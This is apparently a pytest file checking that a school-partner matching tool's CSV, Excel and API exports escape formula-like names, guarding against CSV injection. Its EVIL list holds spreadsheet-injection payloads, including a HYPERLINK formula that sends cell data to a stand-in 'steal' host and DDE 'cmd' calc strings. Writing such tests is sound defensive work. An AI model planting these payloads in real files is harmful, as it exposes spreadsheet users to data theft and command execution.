"""Exports cannot attack their readers: names that look like formulas stay text in every
CSV and Excel file the project writes (issue 11.1, OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from matcher.cli import main
from matcher.export import csv_safe, neutralise, to_csv
from tests.conftest import PARTNER_COLS, SCHOOL_COLS, known_world, write_csv

EVIL = [
    '=HYPERLINK("http://x.example/steal?d="&A1,"click")',
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", EVIL)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["SMP PGRI 6 Surabaya", "", "a=b", 0.5, -0.25, 3, None, True])
def test_plain_values_unchanged(value) -> None:
    assert neutralise(value) == value


def test_csv_safe_touches_text_columns_only() -> None:
    df = pd.DataFrame({"name": [EVIL[0], "ok", None], "score": [-0.5, 0.1, 0.2]})
    out = csv_safe(df)
    assert out["name"].tolist()[:2] == ["'" + EVIL[0], "ok"] and pd.isna(out["name"][2])
    assert out["score"].tolist() == [-0.5, 0.1, 0.2]
    assert df["name"][0] == EVIL[0]  # the input is not changed


def test_csv_safe_equals_the_rule_value_by_value() -> None:
    """Repeated, missing, formula-like and multi-line values and a column of lists: each
    value comes out as the rule says, whatever its neighbours."""
    values = [*EVIL, "ok", "ok", None, "line\r\nnext", "a\rb", EVIL[0], "", float("nan")]
    df = pd.DataFrame(
        {
            "text": values * 3,
            "lists": [["=x", "y"], ["z"], None] * len(values),
            "n": range(3 * len(values)),
        }
    )

    def rule(v):
        v = neutralise(v)
        return v.replace("\r\n", "\n").replace("\r", "\n") if isinstance(v, str) else v

    out = csv_safe(df)
    for got, v in zip(out["text"], df["text"], strict=True):
        assert (pd.isna(got) and pd.isna(v)) or got == rule(v)
    assert out["lists"].tolist() == df["lists"].tolist()
    assert out["n"].tolist() == df["n"].tolist()


@pytest.fixture
def evil_cli(settings, tmp_path: Path):
    """The known world with schools and partners named like formulas."""
    schools, partners = known_world()
    for rec, name in zip(schools, EVIL, strict=False):
        rec["name"] = name
    for rec, name in zip(partners, reversed(EVIL), strict=False):
        rec["name"] = name
    files = (write_csv(tmp_path / "s.csv", SCHOOL_COLS, schools),
             write_csv(tmp_path / "p.csv", PARTNER_COLS, partners))  # fmt: skip
    base = ["--db", settings.db_url, "--models", str(settings.models_dir), "-q"]

    def run(*args: str) -> int:
        return main([args[0], *base, *args[1:]])

    assert run("load", "--schools", str(files[0]), "--partners", str(files[1])) == 0
    assert run("train", "--no-eval") == 0
    return run


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_safe(text: str) -> None:
    cells = _csv_cells(text)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] == "-" and not _number(c)]
    # the names are all there, behind their apostrophe
    shown = {"'" + e.replace("\r", "\n") for e in EVIL}
    assert any(c in shown for c in cells)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_xlsx_text(path: Path) -> int:
    """No formula cell anywhere; returns how many cells hold one of the names."""
    wb = load_workbook(path)
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                found += cell.value in EVIL
    return found


def test_rank_csv_and_xlsx(evil_cli, tmp_path: Path, capsys) -> None:
    capsys.readouterr()
    assert evil_cli("rank", "--regency", "Kota Surabaya", "-k", "5") == 0
    _assert_csv_safe(capsys.readouterr().out)
    out = tmp_path / "r.csv"
    assert evil_cli("rank", "--regency", "Kota Surabaya", "--out", str(out)) == 0
    _assert_csv_safe(out.read_text(encoding="utf-8"))
    xlsx = tmp_path / "r.xlsx"
    assert evil_cli("rank", "--regency", "Kota Surabaya", "--out", str(xlsx)) == 0
    assert _assert_xlsx_text(xlsx) > 0


def test_allocation_csv_and_workbook(evil_cli, tmp_path: Path, capsys) -> None:
    capsys.readouterr()
    assert evil_cli("rank", "--regency", "Kota Surabaya", "--allocate") == 0
    _assert_csv_safe(capsys.readouterr().out)
    xlsx = tmp_path / "a.xlsx"
    assert evil_cli("rank", "--regency", "Kota Surabaya", "--allocate", "--out", str(xlsx)) == 0
    assert _assert_xlsx_text(xlsx) >= 4  # names kept exactly, as text


def test_suggest_csv(evil_cli, capsys) -> None:
    capsys.readouterr()
    assert evil_cli("suggest", "S1", "--format", "csv") == 0
    _assert_csv_safe(capsys.readouterr().out)
    assert evil_cli("suggest", "--partner", "P-EXACT", "--format", "csv") == 0
    text = capsys.readouterr().out
    assert "'" + EVIL[0] in _csv_cells(text) or "'" + EVIL[1] in _csv_cells(text)


def test_api_rankings_csv_and_xlsx(evil_cli, settings, tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from api.config import ApiSettings
    from api.main import create_app

    with TestClient(create_app(settings, ApiSettings(api_keys={"k-0123456789": "read"}))) as c:
        _api_checks(c, tmp_path)


def _api_checks(client, tmp_path: Path) -> None:
    for allocate in (False, True):
        body = {"regency": "Kota Surabaya", "allocate": allocate}
        r = client.post("/rankings", json=body, headers={"Accept": "text/csv"})
        assert r.status_code == 200
        _assert_csv_safe(r.text)
    xlsx_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    r = client.post("/rankings", json={"regency": "Kota Surabaya", "allocate": True},
                    headers={"Accept": xlsx_type})  # fmt: skip
    assert r.status_code == 200 and r.headers["content-type"].startswith(xlsx_type)
    path = tmp_path / "api.xlsx"
    path.write_bytes(r.content)
    assert _assert_xlsx_text(path) >= 4


def test_csv_safe_with_mixed_and_boolean_object_columns() -> None:
    df = pd.DataFrame({"assigned": [True, False, None], "x": ["=1", 3, None]}, dtype=object)
    out = csv_safe(df)
    assert out["assigned"].tolist() == [True, False, None]
    assert out["x"].tolist()[:2] == ["'=1", 3]


def test_a_carriage_return_cannot_start_a_row() -> None:
    df = pd.DataFrame({"name": ["a\r=1+1", "\r=2"], "n": [1, 2]})
    rows = list(csv.reader(io.StringIO(to_csv(df))))
    assert rows == [["name", "n"], ["a\n=1+1", "1"], ["'\n=2", "2"]]
